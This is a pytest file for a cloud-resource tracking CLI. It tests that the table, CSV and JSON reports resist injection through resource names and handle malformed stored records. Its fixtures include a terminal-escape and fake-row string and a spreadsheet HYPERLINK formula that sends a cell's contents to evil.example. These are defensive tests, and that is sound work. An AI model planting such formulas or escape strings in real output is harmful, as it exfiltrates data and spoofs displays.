"""``leftovers report`` cannot be fooled: what a resource's creator controls never forges rows, formulas or JSON."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from leftovers.adapters.stores.sqlite import SQLiteStore
from leftovers.core.model import Resource, ResourceKey
from tests.support.synthetic import config_event, jsonl

NIGHT = "2026-11-21T00:00:00+09:00"
EVIL = "ok\x1b[31m\nAWS::EC2::Instance  forged-row\u202eevil\u200b"


def named(n: int, name: str) -> dict[str, object]:
    """Config event ``n`` whose resource name (and Name tag) is ``name``."""
    event = config_event(n, Name=name)
    event["detail"]["configurationItem"]["resourceName"] = name
    return event


def stored(tmp_path: Path, *records: Resource) -> None:
    """Rows written straight to the store, as an older version (or a bug) may have left them."""
    SQLiteStore(tmp_path / "store.db").save(list(records))


def test_the_table_neutralises_escapes_newlines_and_invisible_characters(run) -> None:  # type: ignore[no-untyped-def]
    run("ingest", "-", input=jsonl([named(1, EVIL), config_event(2)]))
    out = run("report").stdout
    assert "\x1b" not in out
    assert "\u202e" not in out
    assert "\u200b" not in out
    assert len(out.strip().splitlines()) == 4  # header, two rows, summary: no forged row


def test_csv_cells_that_look_like_formulas_are_text(run) -> None:  # type: ignore[no-untyped-def]
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    run("ingest", "-", input=jsonl([named(1, formula), named(2, "@SUM(1)")]))
    rows = list(csv.DictReader(io.StringIO(run("report", "--format", "csv").stdout)))
    names = sorted(r["resource_name"] for r in rows)
    assert names == ["'" + formula, "'@SUM(1)"]


def test_json_stays_valid_with_a_non_finite_size(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    key = ResourceKey("123456789012", "us-east-1", "AWS::EC2::Volume", "vol-0inf")
    at = datetime(2026, 11, 20, tzinfo=UTC)
    stored(tmp_path, Resource(key, created_at=at, next_due_at=at, details={"size": float("inf"), "volumeType": "gp3"}))
    result = run("report", "--format", "json")
    assert result.exit_code == 0
    (row,) = json.loads(result.stdout, parse_constant=lambda c: pytest.fail(f"bare {c} in JSON"))
    assert row["monthly_cost_usd"] is None


def test_times_in_json_have_one_format(run) -> None:  # type: ignore[no-untyped-def]
    events = [config_event(1), config_event(2)]
    events[1]["detail"]["configurationItem"]["configurationItemCaptureTime"] = "2026-11-20T01:00:01.337Z"
    run("ingest", "-", input=jsonl(events))
    times = [r["created_at"] for r in json.loads(run("report", "--format", "json").stdout)]
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", t) for t in times), times


def test_no_known_price_is_not_a_zero_total(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    key = ResourceKey("123456789012", "us-east-1", "AWS::Unknown::Thing", "x-1")
    stored(tmp_path, Resource(key, created_at=datetime(2026, 11, 20, tzinfo=UTC)))
    out = run("report").stdout
    assert "$0.00" not in out
    assert "no price known" in out


def test_help_names_every_json_field(run) -> None:  # type: ignore[no-untyped-def]
    assert "created_for_by" in run("report", "--help").stdout


def test_an_empty_report_says_what_is_behind_it(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    config = tmp_path / "leftovers.toml"
    config.write_text('[[ignore]]\nname = "scratch"\nname_regex = "^synthetic-[12]$"\n')
    events = [config_event(1), config_event(2), config_event(3, **{"leftovers:keep": "true"}), config_event(4)]
    run("ingest", "-", input=jsonl(events))
    env = {"LEFTOVERS_CONFIG": str(config)}
    due = run("report", "--due", "--at", "2026-11-19T00:00Z", env=env).stdout.strip()
    assert due == "Nothing due; 4 tracked, 2 silenced by ignore rules (see --all), 1 kept."


def test_a_record_that_cannot_be_shown_is_a_placeholder_and_a_warning(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    run("ingest", "-", input=jsonl([config_event(1)]))
    ancient = datetime(1, 1, 1, tzinfo=UTC)
    huge = ResourceKey("123456789012", "us-east-1", "AWS::EC2::Volume", "vol-0huge")
    old = ResourceKey("123456789012", "us-east-1", "AWS::EC2::Volume", "vol-0old")
    stored(
        tmp_path,
        Resource(old, created_at=ancient, next_due_at=ancient),
        Resource(huge, created_at=ancient.replace(year=2026), next_due_at=ancient, details={"size": 10**400}),
    )
    env = {"LEFTOVERS_TIMEZONE": "America/New_York"}
    table = run("report", env=env)
    assert table.exit_code == 0, table.output
    assert "synthetic-1" in table.stdout
    assert "vol-0old" in table.stdout
    assert "vol-0huge" in table.stdout
    assert "vol-0old: created_at could not be shown" in table.stderr
    assert "vol-0huge: monthly_cost_usd could not be shown" in table.stderr
    huge_row = next(line for line in table.stdout.splitlines() if "vol-0huge" in line)
    assert huge_row.split()[-2] == "?"  # $/MONTH: a placeholder, not a dash that would say "no price known"
    notify = run("notify", "--at", NIGHT, env=env)
    assert notify.exit_code == 0, notify.output
    assert "synthetic-1" in notify.stdout
    assert "vol-0old" in notify.stdout
    assert "Could not show created_at of AWS::EC2::Volume vol-0old" in notify.stdout


def test_an_expiry_too_far_out_is_a_named_tag_problem_not_never(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    # Stored before ingest bounded durations: 3,000,000 days overflowed the deadline. It is now a tag problem (the
    # tag counts as absent), so the deadline is creation + grace, shown, and the resource is due.
    key = ResourceKey("123456789012", "us-east-1", "AWS::EC2::Volume", "vol-0exp")
    at = datetime(2026, 11, 20, tzinfo=UTC)
    stored(tmp_path, Resource(key, created_at=at, next_due_at=at, tags={"leftovers:expires": "3000000d"}))
    table = run("report", "--at", NIGHT)
    assert table.exit_code == 0
    row = next(line for line in table.stdout.splitlines() if "vol-0exp" in line)
    assert "never" not in row
    assert "2026-11-20" in row
    assert "leftovers:expires" in table.stdout  # the problem is shown under its row
    assert "vol-0exp" in run("report", "--due", "--at", NIGHT).stdout
